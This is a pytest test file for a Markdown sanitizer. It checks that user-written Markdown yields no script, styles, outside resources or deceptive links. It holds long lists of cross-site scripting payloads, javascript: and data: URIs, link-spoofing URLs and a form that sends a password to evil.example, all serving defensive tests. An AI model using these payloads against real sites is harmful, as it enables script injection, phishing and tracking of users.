"""What people write in Markdown carries no script, no style, nothing from elsewhere, and no link that misleads."""

from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from frame.markdown import DEEPEST, TAGS, VOID, nested_too_deeply, to_html, to_text

HOME = "https://portal.example"
TURNED = "\N{RIGHT-TO-LEFT OVERRIDE}"

# One or more of every class of trick that is tried on programs that show what others have written
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<img src="https://evil.example/seen.gif">',
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg/onload=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style=position:fixed;inset:0;background:red>x</p>",
    "<div style='width:expression(alert(1))'>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' target=_blank rel=opener>https://bank.example</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!--><script>alert(1)</script-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\<script>alert(1)\\</script>",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\nx\n```',
    "    </pre><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ request.user }} {% csrf_token %} ${7*7} #{7*7} <%= 7 %>",
    "<x onclick=alert(1) id=getElementById name=cookie class=btn>x</x>",
    "<div hx-get=/auth/logout/ hx-trigger=load data-x=1></div>",
]

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript%3Aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "blob:https://portal.example/1",
    "file:///etc/passwd",
    "filesystem:https://portal.example/x",
    "view-source:https://portal.example",
    "about:blank",
    "ftp://evil.example/x",
    "ms-msdt:/id",
    "intent://evil.example#Intent;end",
    "tel:+1",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example",
    "https:///evil.example",
    "https://portal.example@evil.example/",
    "https://portal.example:443@evil.example/",
    "https://portal.example\\@evil.example/",
    "https://evil.example%2f@portal.example/",
    "https://portal.example%00.evil.example/",
    "https://[not-an-address/",
    "mailto:a@portal.example?cc=spy@evil.example&body=x",
    "?next=//evil.example",
    "#x",
    "relative",
]
WAYS = [
    "[here](<{}>)",
    "[here]({})",
    "![here]({})",
    "<{}>",
    "[here][x]\n\n[x]: {}",
    '[here]({} "title")',
    "[![a]({0})]({0})",
]


def read(text, **more):
    return BeautifulSoup(to_html(text, home=HOME, **more), "html.parser")


def check(page):
    """This will fail unless a page holds nothing but what Markdown is for."""
    for tag in page.find_all(True):
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(tag.name, set())
        assert tag.name in TAGS | VOID
        assert set(tag.attrs) <= allowed
        if tag.name == "a" and not tag["href"].startswith("mailto:"):
            parts = urlsplit(tag["href"])
            assert tag["rel"] == ["noopener", "noreferrer", "nofollow"]
            assert (parts.scheme in ("http", "https") and parts.netloc) or (tag["href"][0] == "/" != tag["href"][1])
            assert "@" not in parts.netloc


@pytest.mark.parametrize("trick", HTML)
def test_html_is_words_like_any_others(trick):
    page = read(trick)

    check(page)
    assert not page.find(["script", "style", "img", "svg", "iframe", "form", "input", "button"])
    assert not page.find("a", href=lambda href: "evil" in href) or "evil.example" in page.get_text()


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("address", ADDRESSES)
def test_no_link_leads_anywhere_but_to_an_open_address(address, way):
    page = read(way.replace("{0}", address).replace("{}", address))

    check(page)
    assert [link["href"] for link in page.find_all("a") if not link["href"].startswith("/%5C")] == []


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("[https://bank.example](https://evil.example/a)", "https://bank.example (evil.example)"),
        ("[bank.example](https://evil.example/a)", "bank.example (evil.example)"),
        ("[**bank**.`example`](https://evil.example)", "bank.example (evil.example)"),
        (
            "[https://bank.example](https://bank.example.evil.example)",
            "https://bank.example (bank.example.evil.example)",
        ),
        ("[the manual](https://docs.example/a)", "the manual (docs.example)"),
        ("[the manual](https://docs.example:8443/a)", "the manual (docs.example:8443)"),
        ("[the manual](https://[2001:db8::1]/a)", "the manual ([2001:db8::1])"),
        ("[Carol](mailto:mallory@evil.example)", "Carol (mallory@evil.example)"),
        ("[carol@acme.example](mailto:mallory@evil.example)", "carol@acme.example (mallory@evil.example)"),
        ("[https://other.example](/accounts/)", "https://other.example (portal.example)"),
        ("[other.example](https://portal.example/x)", "other.example (portal.example)"),
        ("[ｂａｎｋ．ｅｘａｍｐｌｅ](/x)", "ｂａｎｋ．ｅｘａｍｐｌｅ (portal.example)"),
        ("<https://b\N{CYRILLIC SMALL LETTER A}nk.example/>", "https://bаnk.example/ (xn--bnk-6cd.example)"),
        (f"[{TURNED}elpmaxe.knab](https://evil.example)", "[U+202E]elpmaxe.knab (evil.example)"),
        ("[ba\N{ZERO WIDTH SPACE}nk.example](https://evil.example)", "bank.example (evil.example)"),
        ("[](https://evil.example/a)", "https://evil.example/a"),
        ("[&#8203;](https://evil.example/a)", "https://evil.example/a"),
        ("![seen](https://evil.example/seen.gif)", "!seen (evil.example)"),
    ],
)
def test_a_link_that_hides_where_it_goes_says_so(text, seen):
    assert read(text).get_text().strip() == seen


@pytest.mark.parametrize(
    "text",
    [
        "<https://docs.example/a>",
        "https://docs.example/a",
        "[docs.example/a](https://docs.example/a)",
        "[the case](/accounts/654321/cases/12345678/)",
        "[the case](https://portal.example/accounts/654321/)",
        "[carol@acme.example](mailto:carol@acme.example)",
    ],
)
def test_a_link_that_says_where_it_goes_says_it_once(text):
    page = read(text)

    assert page.get_text().strip() == page.a.get_text()


@pytest.mark.parametrize(
    ("text", "href", "after"),
    [
        ("see https://join.example/x?y=1&z=2.", "https://join.example/x?y=1&z=2", "."),
        ("(see https://join.example/a_(b))", "https://join.example/a_(b)", ")"),
        ("https://join.example/*a*!", "https://join.example/", "a!"),
    ],
)
def test_an_address_in_a_line_can_be_followed_without_the_stop_behind_it(text, href, after):
    page = read(text)

    assert page.a["href"] == href
    assert page.get_text().strip().endswith(page.a.get_text() + after)


@pytest.mark.parametrize(
    "text", [TURNED, "&#x202E;", "`\N{LEFT-TO-RIGHT ISOLATE}`", f"    {TURNED}", f"```\n{TURNED}\n```"]
)
def test_marks_that_turn_the_writing_are_shown_and_do_nothing(text):
    seen = read(f"a\n\n{text}").get_text()

    assert "[U+20" in seen
    assert "[U+20" in to_text(text)
    assert not {"\u202e", "\u2066"} & set(seen)


def test_joiners_stay_and_what_cannot_be_seen_goes():
    assert read("می\u200cخواهم a\u200bb\ufeffc\x07").get_text().strip() == "می\u200cخواهم abc"


@pytest.mark.parametrize(("top", "names"), [(2, ["h2", "h3", "h6"]), (3, ["h3", "h4", "h6"]), (5, ["h5", "h6", "h6"])])
def test_headings_begin_below_those_of_the_page(top, names):
    page = read("# One\n\n## Two\n\n##### Five", top=top)

    assert [tag.name for tag in page.find_all(True)] == names


def test_what_markdown_is_for_is_there():
    page = read("*a* **b** `c`  \nd\n\n3. e\n4. f\n   - g\n\n> h\n\n---\n\n```\ni <b>\n```")

    assert [tag.name for tag in page.find_all(True)] == [
        *("p", "em", "strong", "code", "br", "ol", "li", "li", "ul", "li", "blockquote", "p", "hr", "pre", "code"),
    ]
    assert page.ol["start"] == "3"
    assert page.pre.get_text() == "i <b>\n"


def test_the_plain_form_says_the_same_with_whole_addresses():
    text = (
        "# Title\n\nRead [the manual](https://docs.example/a) and [the case](/x).\n\n"
        "1. one\n2. *two*\n   - three\n\n> four\n> five"
    )

    assert to_text(text, home=HOME) == (
        "Title\n\nRead the manual <https://docs.example/a> and the case <https://portal.example/x>.\n\n"
        "1. one\n2. two\n   - three\n\n> four\n> five"
    )


@pytest.mark.parametrize("one", [("*a ", "a* "), ("**a ", "a** "), ("_*a ", "a*_ ")])
def test_stress_within_stress_within_stress_is_left_out_where_nobody_would_see_it(one):
    opening, closing = one
    deep, shown = opening * 1500 + closing * 1500, opening * 10 + closing * 10

    page, plain = read(deep), to_text(deep)

    assert page.get_text().split() == plain.split() == ["a"] * 3000
    assert len(page.find_all(["em", "strong"])) == DEEPEST
    assert (nested_too_deeply(deep), nested_too_deeply(shown)) == (True, False)


@pytest.mark.parametrize(("piece", "most"), [("> ", 19), ("- ", 9)])
def test_what_is_set_deeper_than_it_is_shown_is_known(piece, most):
    assert "words" in to_text(piece * most + "words")
    assert not nested_too_deeply(piece * most + "words")
    assert "words" not in to_text(piece * (most + 1) + "words")
    assert nested_too_deeply(piece * (most + 1) + "words")


@pytest.mark.parametrize("piece", ["[", "*a_ ", "`", "[a](<b", ">", "- ", "![[", "<", "[a](b", "_*", "1. ", "[[a](b)"])
def test_what_is_meant_to_keep_the_reader_busy_is_read_all_the_same(piece):
    check(read((piece * 10_000)[:10_000]))
